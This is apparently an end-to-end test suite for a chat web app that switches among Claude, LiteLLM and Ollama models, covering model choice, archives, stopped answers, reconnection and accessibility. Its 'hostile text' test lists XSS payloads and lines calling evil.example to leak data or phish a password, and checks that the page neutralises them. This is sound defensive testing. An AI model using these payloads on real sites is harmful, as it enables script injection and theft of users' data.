import { rmSync } from 'node:fs';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { type Simulator, startSimulator } from '../simulator/server.ts';
import { ChatPage, launch, newProfile } from './harness/page.ts';
import { newStateDir, type Program, startProgram } from './harness/program.ts';

let browser: Browser;
let simulator: Simulator;
let program: Program;
const stateDir = newStateDir();
const profiles: BrowserContext[] = [];
const pages: ChatPage[] = [];

function settings(): Record<string, string> {
  return {
    ANTHROPIC_API_KEY: 'simulated',
    ANTHROPIC_BASE_URL: simulator.anthropicUrl,
    LITELLM_ENABLED: 'true',
    LITELLM_PROXY_URL: simulator.litellmUrl,
    LITELLM_MASTER_KEY: 'sk-simulated',
    OLLAMA_BASE_URL: simulator.ollamaUrl,
    SIMULATED: 'true',
  };
}

function start(port?: number): Promise<Program> {
  return startProgram({ port, stateDir, env: settings() });
}

beforeAll(async () => {
  simulator = await startSimulator({ port: 0, pace: 0.3 });
  [browser, program] = await Promise.all([launch(), start()]);
});
afterEach(async () => {
  for (const profile of profiles.splice(0)) await profile.close();
  const complaints = pages.splice(0).flatMap((chat) => chat.complaints);
  expect(complaints, 'the console is free of errors').toEqual([]);
});
afterAll(async () => {
  await browser?.close();
  await program?.stop();
  await simulator?.close();
  rmSync(stateDir, { recursive: true, force: true });
});

async function profile(view = {}): Promise<BrowserContext> {
  const context = await newProfile(browser, view);
  profiles.push(context);
  return context;
}

async function open(context: BrowserContext): Promise<ChatPage> {
  const chat = await ChatPage.open(context, program.url);
  pages.push(chat);
  return chat;
}

describe('a newcomer', () => {
  test('talks to Automatic, picks a fixed Claude, picks home, is warned, finds the old conversations, reloads', async () => {
    const chat = await open(await profile());
    const { page } = chat;
    expect(await chat.chip.textContent()).toMatch(/Automatic/);
    expect(await chat.chip.textContent()).toMatch(/Simulated/);

    const first = await chat.ask('[[echo]] Which VLAN is free?');
    expect(await first.textContent()).toContain('Which VLAN is free?');
    const receipt = first.getByRole('group').filter({ hasText: 'Receipt:' });
    await receipt.locator('summary').click();
    expect(await receipt.textContent()).toMatch(/Claude (Haiku|Sonnet|Opus) 5\.5/);
    expect(await receipt.textContent()).toMatch(/\$0\.\d+|<\$0/);
    expect(await receipt.textContent()).toMatch(/Why/);

    // Cancel changes nothing; Start New Conversation does.
    await chat.pick(/Claude Sonnet 5\.5/);
    await chat.warning.waitFor();
    expect(await chat.warning.textContent()).toMatch(/2 \(will be archived\)/);
    expect(await chat.warning.textContent()).toMatch(/Claude Sonnet 5\.5/);
    await chat.warning.getByRole('button', { name: 'Cancel' }).click();
    await chat.warning.waitFor({ state: 'hidden' });
    expect(await chat.chip.textContent()).toMatch(/Automatic/);
    await chat.pick(/Claude Sonnet 5\.5/);
    await chat.warning.getByRole('button', { name: 'Start New Conversation' }).click();
    await page.getByRole('button', { name: /^Model: Claude Sonnet 5\.5/ }).waitFor();
    expect(await chat.answers.count()).toBe(0);
    const second = await chat.ask('[[echo]] On Sonnet now?');
    expect(await second.textContent()).toMatch(/Claude Sonnet 5\.5/);

    await chat.pick(/qwen|Qwen/);
    await chat.warning.getByRole('button', { name: 'Start New Conversation' }).click();
    await page.getByRole('button', { name: /^Model: .*[Qq]wen/ }).waitFor();
    await chat.ask('[[echo]] And at home?');

    await chat.history();
    const entries = chat.dialog.getByRole('listitem');
    expect(await entries.count()).toBe(2);
    expect(await entries.first().textContent()).toMatch(/Claude Sonnet 5\.5/);
    await entries.last().getByRole('button').first().click();
    await page.getByText('Read-only').waitFor();
    await chat.answers.first().waitFor();
    expect(await page.getByRole('main').textContent()).toContain('Which VLAN is free?');
    expect(await chat.composer.count()).toBe(0);
    await page.getByRole('button', { name: 'Back' }).click();

    await page.reload();
    await chat.ready();
    await chat.answers.first().waitFor();
    expect(await page.getByRole('main').textContent()).toContain('And at home?');
    expect(await chat.chip.textContent()).toMatch(/[Qq]wen/);
  });

  test('opens an archived conversation again and goes on in it', async () => {
    const chat = await open(await profile());
    await chat.ask('[[echo]] The first topic');
    await chat.page.getByRole('button', { name: 'New chat' }).click();
    await chat.answers.first().waitFor({ state: 'detached' });
    await chat.history();
    await chat.dialog.getByRole('listitem').first().getByRole('button').first().click();
    await chat.page.getByRole('button', { name: 'Open again' }).click();
    await chat.composer.waitFor();
    // What is asked before it is open again goes there too, but its answers are not here yet to be counted.
    await chat.answers.getByText('The first topic').waitFor();
    const answer = await chat.ask('[[echo]] more of it');
    expect(await chat.answers.count()).toBe(2);
    expect(await answer.textContent()).toContain('more of it');
  });

  test('is not warned when there is nothing to lose, and finds the choice again in a new session', async () => {
    const context = await profile();
    const chat = await open(context);
    await chat.pick(/Claude Opus 5\.5/);
    await chat.page.getByRole('button', { name: /^Model: Claude Opus 5\.5/ }).waitFor();
    expect(await chat.warning.count()).toBe(0);

    await chat.page.evaluate("localStorage.removeItem('chatbox.session')");
    await chat.page.reload();
    await chat.page.getByRole('button', { name: /^Model: Claude Opus 5\.5/ }).waitFor();
  });
});

describe('an answer', () => {
  test('can be stopped, and what was received stays', async () => {
    const chat = await open(await profile());
    await chat.send('[[long 4000]] tell me everything');
    const answer = chat.answers.first();
    await answer.locator('p').first().waitFor();
    await chat.page.getByRole('button', { name: 'Stop the answer' }).click();
    await chat.finished(answer);
    expect(await answer.textContent()).toMatch(/Stopped/);
    expect((await answer.textContent())?.length).toBeGreaterThan(20);
  });

  test('from another model is announced with the reason', async () => {
    const chat = await open(await profile());
    await chat.pick(/Claude Sonnet 5\.5/);
    await chat.page.getByRole('button', { name: /^Model: Claude Sonnet 5\.5/ }).waitFor();
    const answer = await chat.ask('[[status 529 on claude-sonnet-5-5]] [[echo]] hello');
    expect(await answer.textContent()).toMatch(/Claude Haiku 5\.5\s+answers instead of\s+Claude Sonnet 5\.5/);
  });

  test('that breaks off keeps its text, says so and can be asked for again', async () => {
    const chat = await open(await profile());
    const answer = await chat.ask('[[error-after 12]] [[long 60]]');
    expect(await answer.getByRole('button', { name: 'Try again' }).count()).toBe(1);
    expect(await answer.textContent()).toMatch(/error|went wrong|broke/i);
  });

  test('shows thinking folded', async () => {
    const chat = await open(await profile());
    await chat.pick(/Claude Opus 5\.5/);
    await chat.page.getByRole('button', { name: /^Model: Claude Opus 5\.5/ }).waitFor();
    const answer = await chat.ask('[[think]] [[echo]] why?');
    const thoughts = answer
      .locator('details')
      .filter({ hasText: /Thought/ })
      .first();
    expect(await thoughts.getAttribute('open')).toBeNull();
    await thoughts.locator('summary').click();
    expect((await thoughts.locator('p').textContent())?.length).toBeGreaterThan(3);
  });

  test('has code with colours and a copy button', async () => {
    const chat = await open(await profile());
    const answer = await chat.ask('[[code]]');
    await answer.locator('pre code [class^="hljs-"]').first().waitFor();
    await chat.page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await answer.locator('.code, pre').getByRole('button', { name: /copy/i }).first().click();
    const copied = await chat.page.evaluate('navigator.clipboard.readText()');
    expect(copied).toBe(((await answer.locator('pre code').first().textContent()) ?? '').replace(/\n$/, ''));
  });
});

describe('hostile text', () => {
  const ATTACKS = [
    '<script>window.pwned = 1</script>',
    '<img src=x onerror="window.pwned = 2">',
    '<svg onload="window.pwned = 3"></svg>',
    '[a link](javascript:window.pwned=4)',
    '[a link](JaVaScRiPt:window.pwned=5)',
    '[a link](data:text/html,<script>window.pwned=6</script>)',
    '![an image](https://evil.example/leak?data=secret)',
    '<iframe src="javascript:window.pwned=7"></iframe>',
    '<a href="https://ok.example" onclick="window.pwned = 8">x</a>',
    '<style>body { display: none }</style>',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    '```html\n<script>window.pwned = 9</script>\n```',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=10&gt;">',
    '[x]: javascript:window.pwned=11\n[x]',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  ];

  test('in a message and in its answer is shown, and does nothing', async () => {
    const chat = await open(await profile());
    const foreign: string[] = [];
    chat.page.on('request', (request) => {
      if (!request.url().startsWith(program.url) && !request.url().startsWith('data:'))
        foreign.push(request.url());
    });
    const answer = await chat.ask(`[[echo]] ${ATTACKS.join('\n\n')}`);
    expect(await answer.textContent()).toContain('a link');
    for (const link of await answer.locator('a').all()) {
      expect(await link.getAttribute('href')).toMatch(/^(https?|mailto):/);
      expect(await link.getAttribute('rel')).toMatch(/noopener/);
    }
    const shown = chat.page.getByRole('article');
    for (const selector of [
      'script',
      'iframe',
      'form',
      'style',
      'base',
      'meta',
      'img[src^="http"]',
      '[onclick]',
      '[onerror]',
      '[onload]',
    ]) {
      const found = await shown.locator(selector).all();
      expect(
        await Promise.all(found.map((element) => element.evaluate((node) => node.outerHTML))),
        selector,
      ).toEqual([]);
    }
    for (const link of await answer.locator('a').all()) await link.dispatchEvent('focus');
    expect(await chat.page.evaluate('window.pwned')).toBeUndefined();
    expect(await chat.page.locator('body').isVisible()).toBe(true);
    expect(foreign).toEqual([]);

    await chat.page.reload();
    await chat.answers.first().waitFor();
    expect(await chat.page.evaluate('window.pwned')).toBeUndefined();
  });
});

describe('several tabs', () => {
  test('share one session and stay in step; a separate one does not', async () => {
    const context = await profile();
    const first = await open(context);
    await first.ask('[[echo]] from the first tab');
    const second = await open(context);
    await second.answers.first().waitFor();
    await second.ask('[[echo]] from the second tab');
    await first.finished(first.answers.nth(1));
    expect(await first.answers.nth(1).textContent()).toContain('from the second tab');

    await second.history();
    await second.dialog.getByRole('button', { name: 'Start a separate session' }).click();
    await second.answers.first().waitFor({ state: 'detached' });
    await second.ask('[[echo]] alone');
    expect(await first.answers.count()).toBe(2);
  });
});

describe('the line', () => {
  test('comes back by itself after the server was away, with everything there', async () => {
    const chat = await open(await profile());
    await chat.ask('[[echo]] before the restart');
    const { port } = program;
    const lost = chat.page.getByText('Connection lost. Reconnecting… ');
    await program.stop();
    await lost.waitFor();
    program = await start(port);
    await lost.waitFor({ state: 'detached' });
    const answer = await chat.ask('[[echo]] after the restart');
    expect(await chat.answers.count()).toBe(2);
    expect(await answer.textContent()).toContain('after the restart');
    // The browser itself writes down each attempt that failed.
    chat.complaints.splice(
      0,
      chat.complaints.length,
      ...chat.complaints.filter((text) => !/WebSocket|ERR_CONNECTION/.test(text)),
    );
  });

  test('a model whose service lacks it is greyed, with the reason', async () => {
    simulator.control.ollamaTags = [];
    const other = await startProgram({ env: settings() });
    try {
      const chat = await ChatPage.open(await profile(), other.url);
      pages.push(chat);
      await chat.chip.click();
      const home = chat.dialog.getByRole('radio', { name: /[Qq]wen/ });
      await home.and(chat.page.locator(':disabled')).waitFor();
      expect(await chat.dialog.textContent()).toMatch(/does not have the model/);
    } finally {
      simulator.control.reset();
      await other.stop();
    }
  });
});

describe('keyboard', () => {
  test('chooses a model without a mouse, and focus comes back', async () => {
    const chat = await open(await profile());
    const { page } = chat;
    await chat.chip.focus();
    await page.keyboard.press('Enter');
    await chat.dialog.waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Escape');
    await chat.dialog.waitFor({ state: 'hidden' });
    await expect
      .poll(() => page.evaluate('document.activeElement?.getAttribute("aria-label")'))
      .toMatch(/^Model: /);
    await page.keyboard.press('Enter');
    await chat.dialog.waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: /^Model: Claude Haiku 5\.5/ }).waitFor();
    await page.keyboard.type('[[echo]] typed at once');
    await page.keyboard.press('Enter');
    await chat.finished(chat.answers.first());
  });
});

describe.each([
  { name: 'dark, desktop', view: { dark: true } },
  { name: 'light, phone', view: { dark: false, width: 390, height: 844 } },
])('accessibility: $name', ({ view }) => {
  test('nothing serious in the main states', async () => {
    const chat = await open(await profile(view));
    const faults: Record<string, string[]> = {};
    const look = async (state: string) => {
      const found = await chat.accessibilityFaults();
      if (found.length > 0) faults[state] = found;
    };
    await look('empty');
    await chat.ask('[[code]] [[table]] [[list]] [[think]]');
    await look('answered');
    await chat.ask('[[error-after 5]]');
    await look('error');
    await chat.chip.click();
    await chat.dialog.waitFor();
    await look('selector');
    await chat.dialog.getByRole('radio', { name: /Claude Opus 5\.5/ }).check();
    await chat.dialog.getByRole('button', { name: 'Apply' }).click();
    await chat.warning.waitFor();
    await look('warning');
    await chat.warning.getByRole('button', { name: 'Start New Conversation' }).click();
    await chat.warning.waitFor({ state: 'detached' });
    await chat.history();
    await look('history');
    await chat.dialog.getByRole('listitem').first().getByRole('button').first().click();
    await chat.page.getByText('Read-only').waitFor();
    await look('archived');
    expect(faults).toEqual({});
    const scrolls = await chat.page.evaluate(
      'document.documentElement.scrollWidth > document.documentElement.clientWidth',
    );
    expect(scrolls, 'no sideways scrolling').toBe(false);
  });
});
